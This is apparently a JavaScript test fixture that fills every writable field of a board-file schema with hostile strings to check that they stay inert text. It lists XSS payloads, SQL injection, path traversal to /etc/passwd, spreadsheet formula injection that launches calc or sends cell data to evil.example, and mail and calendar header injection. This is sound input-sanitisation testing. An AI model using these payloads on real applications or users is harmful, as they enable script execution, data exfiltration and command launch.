// Texts that are written to do harm, and a board that holds them in every field where a person can write.
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { id } from './data.mjs';

const read = async (path) => JSON.parse(await readFile(fileURLToPath(new URL(path, import.meta.url)), 'utf8'));
const SCHEMA = await read('../../public/schema/irai-board-4.schema.json');
const COMPLETE = await read('../fixtures/complete.json');
const STORED = await read('../fixtures/board/v4.json');

/** What would run if a text were taken for anything else. */
const RUN = 'window.__pwned=1';

/** Texts that must stay texts, each by what it tries. One line where it may stand in a title. */
export const TEXTS = [
  ['a script', `<script>${RUN}</script>`],
  ['a picture that fails', `<img src=x onerror="${RUN}">`],
  ['a drawing that loads', `<svg/onload=${RUN}>`],
  ['a frame with a document', `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`],
  ['an end of the attribute', `" autofocus tabindex=0 onfocus="${RUN}" x="`],
  ['an end of the other attribute', `' onmouseover='${RUN}' x='`],
  ['an end of what may hold text', `</textarea></title></style></script><script>${RUN}</script>`],
  ['a comment that ends oddly', `<!--><script>${RUN}</script>-->`],
  ['a style sheet', '</style><style>*{display:none!important}</style>'],
  ['another address for all', '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">'],
  ['a form that sends', `<form action=https://evil.example/><button autofocus>x</button></form>`],
  ['entities', `&lt;img src=x onerror=${RUN}&gt;&#x3C;script&#x3E;${RUN}&#60;/script&#62;`],
  ['a template of a framework', `{{constructor.constructor('${RUN}')()}}`],
  ['a template of JavaScript', `\${${RUN}}\`-${RUN}-\``],
  ['a link of Markdown', `[x](javascript:${RUN}) ![x](https://evil.example/x.png) <https://evil.example>`],
  ['a table of Markdown', `|a|b|\`\`\`<b onclick=${RUN}>*c*</b>`],
  ['a formula', `=HYPERLINK("https://evil.example/?"&A1,"x")`],
  ['a formula behind a space', ' +cmd|\' /C calc\'!A0'],
  ['a formula with a minus', '-2+3+cmd|\' /C calc\'!A0'],
  ['a formula with an at', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['a formula in full width', '=1+1'],
  ['a formula behind what is not seen', '\u200b\ufeff=1+1'],
  ['a turn of the direction', '請求\u202Eexe.\u2066fdp\u2067(右から'],
  ['a direction never ended', '\u2067\u202Bעברית مشروع'],
  ['what is not seen', '経\u200b理\u200d\u2060\u00ad\ufeff代行'],
  ['marks on marks', `Z${'\u0301\u0336\u20DD'.repeat(30)}`],
  ['what is no letter', '\uFFFE\uFFFF\u{10FFFF}\uFFFD\uE000'],
  ['other ends of a line', 'a\u2028b\u2029c'],
  ['a name that objects have', '__proto__'],
  ['another name that objects have', 'constructor.prototype.toString'],
  ['nothing, in words', 'null'],
  ['a file of the board', '{"format":"irai-board","version":4}'],
  ['a way out of a folder', '../../../../etc/passwd\\..\\..\\x'],
  ['quotes and a database', `\\"\\'; DROP TABLE cards;--`],
  ['a link that runs', `javascript:${RUN}//`],
  ['a word without an end', 'W'.repeat(190)],
];

/** What only a field of several lines takes. */
export const LONG_TEXTS = [
  ['another entry in a calendar', 'x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected\nATTACH:https://evil.example/'],
  ['another head in a mail', 'x\nBcc: evil@evil.example\n\n<b>x</b>'],
  ['another heading of Markdown', '# x\n\n---\n\n- [ ] x\n\n<details open ontoggle=window.__pwned=1>'],
  ['tabs in front of a formula', '\t=1+1\n\t@SUM(1)'],
  ['many lines', '行\n'.repeat(2_000)],
  ['a very long word', '長'.repeat(20_000)],
];

/** Addresses that are allowed, and try to be more. */
export const LINKS = [
  `https://example.com/"onmouseover="${RUN}`,
  `https://example.com/'><script>${RUN}</script>`,
  `HTTPS://user:password@example.com:8443/?q=%22%3E%3Cscript%3E#${RUN}`,
  `mailto:a@example.com?bcc=evil@evil.example&body=%0D%0ABcc:x`,
  `tel:+81-3-0000-0000;x="><svg/onload=${RUN}>`,
  `//evil.example/x`,
  `<img/src=x/onerror=${RUN}>.pdf`,
];

/** Addresses that run or load something, as they are hidden from whoever looks for them. */
export const BAD_LINKS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)',
  'javascript\t:alert(1)', 'javascript://example.com/%0Aalert(1)', 'javascript:https://example.com/', 'vbscript:msgbox(1)', 'VBSCRIPT:x',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'DATA:image/svg+xml,<svg/onload=alert(1)>',
  'file:///etc/passwd', 'blob:https://example.com/1', 'filesystem:https://example.com/x', 'view-source:https://example.com',
  'about:blank', 'ws://example.com', 'intent://x#Intent;end', 'ms-msdt:/id', 'http:javascript:alert(1)', 'https:example.com', 'mailto:',
];

/** Names of fields that hold an address. */
const IS_LINK = new Set(['link', 'site']);

const resolved = (node) => (node.$ref ? { ...SCHEMA.$defs[node.$ref.split('/').pop()], named: node.$ref.split('/').pop() } : node);
const isText = (node) => [node.type].flat().includes('string') && !['enum', 'const', 'format', 'pattern'].some((rule) => rule in node);
const isObject = (node) => node.type === 'object' && !node.required?.includes('id') && node.properties;

/** Every place of the schema where a person can write, as `Type.field`. */
export function textPlaces() {
  const places = new Set();
  for (const [type, definition] of Object.entries(SCHEMA.$defs)) {
    // What is in a file that comes along is bytes, and what is in an overlap is of any kind.
    if (type === 'AttachedFile') continue;
    for (const [name, property] of Object.entries(definition.properties ?? {})) {
      const node = resolved(property);
      if (isText(node) || (node.items && isText(resolved(node.items)))) places.add(`${type}.${name}`);
    }
  }
  return places;
}

/** Puts a text into every field of a value where one may stand, also into those that are empty. */
function fill(schema, value, next, reached) {
  const node = resolved(schema);
  const branches = node.anyOf ?? node.oneOf;
  if (branches) return fill(branches.find((branch) => resolved(branch).type !== 'null'), value, next, reached);
  if (Array.isArray(value)) return void value.forEach((item) => fill(node.items ?? {}, item, next, reached));
  if (value === null || typeof value !== 'object') return undefined;
  for (const [name, property] of Object.entries(node.properties ?? {})) {
    const inner = resolved(property);
    const place = `${node.named}.${name}`;
    if (isText(inner)) value[name] = next(place);
    else if (inner.items && isText(resolved(inner.items))) value[name] = [next(place), next(place)];
    else if (name in value) fill(property, value[name], next, reached);
    else if (isObject(inner)) fill(property, (value[name] = {}), next, reached);
    else continue;
    reached.add(place);
  }
  const others = node.additionalProperties || Object.values(node.patternProperties ?? {})[0];
  if (others) for (const [name, inner] of Object.entries(value)) if (!(name in (node.properties ?? {}))) fill(others, inner, next, reached);
  return undefined;
}

/**
 * A board with a text in every field. The nth field in order gets the (n + turn)th text, so that with each turn
 * every field holds another. Answers with the file, and the places that were reached.
 */
export function hostileBoard(turn = 0) {
  const fresh = (engagement, more = {}) => ({ ...structuredClone(engagement), id: id(), ...more });
  const open = [...COMPLETE.board.engagements, ...STORED.board.engagements].map((engagement) => fresh(engagement));
  open[0].overlaps = ['clarify.purpose', ''].map((path) => ({ id: id(), path, other: TEXTS[turn % TEXTS.length][1] }));
  const engagements = [
    ...open,
    fresh(open[0], { status: 'done' }),
    fresh(open[1], { status: 'template' }),
  ];
  const board = { settings: structuredClone(STORED.board.settings), engagements };
  let count = turn;
  const one = (list) => list[count++ % list.length];
  const next = (place) => {
    const [type, name] = place.split('.');
    if (IS_LINK.has(name)) return one(LINKS);
    // A path of the board, a media type, the query of a filter: texts that no one writes, and that may hold anything.
    if (place === 'Engagement.title' || place === 'Overlap.path') return one(TEXTS)[1];
    const [, text] = one(turn % 2 === 0 || type === 'Terms' ? TEXTS : [...TEXTS, ...LONG_TEXTS]);
    return text;
  };
  const reached = new Set();
  fill(SCHEMA.properties.board, board, next, reached);
  return { file: { format: 'irai-board', version: 4, exported_at: '2026-07-01T10:00:00+09:00', board }, reached };
}
